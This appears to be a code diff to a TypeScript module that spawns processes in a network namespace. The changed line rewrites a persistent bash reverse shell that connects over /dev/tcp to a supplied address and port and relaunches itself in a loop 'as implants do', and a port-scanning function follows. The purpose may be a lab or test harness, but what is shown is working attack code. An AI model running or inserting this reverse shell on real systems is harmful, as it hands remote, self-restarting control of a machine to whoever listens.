@@ -45,7 +45,7 @@ export class ShellListener {
 
 /** A shell of the machine in the hands of the listener; begun again when it breaks, as implants do. */
 export const startReverseShell = (namespace: string, address: string, port: number): ChildProcess =>
-  startIn(namespace, 'bash', '-c', `while :; do bash -c 'bash <&3 >&3 2>&1 3<>/dev/tcp/${address}/${port}'; sleep 0.3; done`);
+  startIn(namespace, 'bash', '-c', `while :; do bash -c 'exec 3<>/dev/tcp/${address}/${port}; bash <&3 >&3 2>&1'; sleep 0.3; done`);
 
 /** Tries port after port of a stranger. */
 export const startScan = (namespace: string, address: string): ChildProcess =>
